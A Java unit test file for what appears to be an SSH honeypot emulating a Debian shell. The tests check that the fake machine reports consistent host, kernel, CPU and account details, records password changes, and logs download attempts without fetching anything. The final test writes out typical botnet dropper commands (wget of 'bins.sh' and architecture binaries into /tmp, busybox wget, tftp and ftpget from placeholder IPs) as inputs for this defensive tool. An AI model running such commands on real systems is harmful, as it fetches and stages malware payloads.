package io.honeybee.shell;

import static org.assertj.core.api.Assertions.assertThat;

import io.honeybee.pot.PotFixture;
import io.honeybee.shell.command.Commands;
import io.honeybee.world.World;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** The machine agrees with itself. */
class MachineTest {
  private final World world = PotFixture.WORLD;
  private final ShellFixture shell = new ShellFixture();

  @Test
  void everyProgramThatIsKnownIsInstalledOrCannotBeCalled() throws Exception {
    // What bots look for is there.
    for (String name :
        List.of(
            "wget",
            "curl",
            "tftp",
            "busybox",
            "nproc",
            "lscpu",
            "crontab",
            "awk",
            "ifconfig",
            "ps",
            "free",
            "uptime",
            "dd",
            "chmod",
            "base64",
            "nc",
            "perl")) {
      shell.run("which " + name);
      assertThat(shell.status).as(name).isZero();
    }
    Set<String> known = Commands.debian().programs().keySet();
    assertThat(known.size() + Commands.debian().builtins().size()).isGreaterThan(80);
    shell.run("which nvidia-smi gcc docker python3 python");
    assertThat(shell.status).isEqualTo(1);
    // A minimal Debian has no Python, nor any file of it.
    assertThat(shell.run("find / -name 'python*' 2>/dev/null; python3 -c 'print(1+1)'"))
        .isEqualTo("bash: line 1: python3: command not found\n");
  }

  @Test
  void hostNameIsTheSameEverywhere() throws Exception {
    String host = world.hostName();
    assertThat(shell.run("hostname; cat /etc/hostname /proc/sys/kernel/hostname; uname -n"))
        .isEqualTo((host + "\n").repeat(4));
    assertThat(shell.run("cat /etc/hosts")).contains("127.0.1.1\t" + host);
  }

  @Test
  void kernelIsTheSameEverywhere() throws Exception {
    assertThat(shell.run("uname -r; cat /proc/sys/kernel/osrelease; ls /boot | grep vmlinuz"))
        .isEqualTo(
            world.kernelRelease()
                + "\n"
                + world.kernelRelease()
                + "\nvmlinuz-"
                + world.kernelRelease()
                + "\n");
    assertThat(shell.run("cat /proc/version")).contains(world.kernelVersion());
    assertThat(shell.run("uname -a"))
        .isEqualTo(
            "Linux %s %s %s x86_64 GNU/Linux\n"
                .formatted(world.hostName(), world.kernelRelease(), world.kernelVersion()));
  }

  @Test
  void processorsAndMemoryAgree() throws Exception {
    String cores = String.valueOf(world.cpu().cores());
    assertThat(
            shell.run(
                "nproc; grep -c ^processor /proc/cpuinfo; lscpu | awk '/^CPU\\(s\\)/ {print $2}'"))
        .isEqualTo((cores + "\n").repeat(3));
    String total = String.valueOf(world.memory().totalKilobytes());
    assertThat(
            shell.run(
                "free | awk '/Mem/ {print $2}'; grep MemTotal /proc/meminfo | awk '{print $2}'"))
        .isEqualTo((total + "\n").repeat(2));
  }

  @Test
  void addressesAndUsersAgree() throws Exception {
    String address = world.network().address();
    assertThat(shell.run("ifconfig")).contains("inet " + address);
    assertThat(shell.run("ip a")).contains("inet " + address + "/24");
    assertThat(shell.run("hostname -I").strip()).isEqualTo(address);
    for (World.Account person : world.people()) {
      assertThat(shell.run("id " + person.name())).startsWith("uid=" + person.id());
      assertThat(shell.run("ls /home")).contains(person.name());
    }
  }

  @Test
  void anUnknownUserHasAnAccountAndAHome() throws Exception {
    assertThat(shell.as("pi", "id; pwd; grep ^pi: /etc/passwd; cat /etc/shadow", ""))
        .isEqualTo(
            """
            uid=1100(pi) gid=1100(1100) groups=1100(1100)
            /home/pi
            pi:x:1100:1100::/home/pi:/bin/bash
            cat: /etc/shadow: Permission denied
            """);
  }

  @Test
  void sessionsDoNotSeeEachOthersFiles() throws Exception {
    shell.run("echo secret > /tmp/mine");
    assertThat(shell.run("cat /tmp/mine")).isEqualTo("cat: /tmp/mine: No such file or directory\n");
  }

  @Test
  void aChangedPasswordIsReportedAndAnyOtherIsNot() throws Exception {
    shell.run("echo 'root:s3cr3t:x' | chpasswd; echo root:abc | chpasswd | bash");
    shell.run("printf 'new1\\nnew1\\n' | passwd; printf 'a\\nb\\n' | passwd root");
    shell.run("echo nosuch:x | chpasswd; passwd nosuch; echo x | chpasswd; passwd -l root");
    ShellFixture router = ShellFixture.router();
    router.run("printf 'r0uter\\nr0uter\\n' | passwd");

    assertThat(shell.passwords).containsExactly("root s3cr3t:x", "root abc", "root new1");
    assertThat(router.passwords).containsExactly("root r0uter");
    assertThat(shell.inputs).noneMatch(line -> line.equals("new1"));
  }

  @Test
  void accountsThatAVisitorAddsAreThereForTheSession() throws Exception {
    assertThat(
            shell.run(
                "useradd -m -s /bin/bash bob; grep -c ^bob: /etc/passwd; ls /home | grep bob;"
                    + " echo bob:x | chpasswd; userdel bob; grep -c ^bob: /etc/passwd"))
        .isEqualTo("1\nbob\n0\n");
    assertThat(shell.run("grep -c ^bob: /etc/passwd")).isEqualTo("0\n");
  }

  @Test
  void nothingIsFetchedAndEveryAddressIsReported() throws Exception {
    shell.run("wget -q http://198.51.100.1/bins.sh -O /tmp/x; curl -sO http://a.example/b/c?d=1");
    shell.run("/bin/busybox wget http://198.51.100.1:8080/arm7; tftp -g -r mips -l m 198.51.100.2");
    shell.run("cd /tmp || cd /var; ftpget 198.51.100.3 x y");
    assertThat(shell.downloads)
        .containsExactly(
            "http://198.51.100.1/bins.sh /tmp/x",
            "http://a.example/b/c?d=1 c",
            "http://198.51.100.1:8080/arm7 arm7",
            "tftp://198.51.100.2/mips m");
    assertThat(shell.failed).containsExactly("ftpget 198.51.100.3 x y");
  }
}
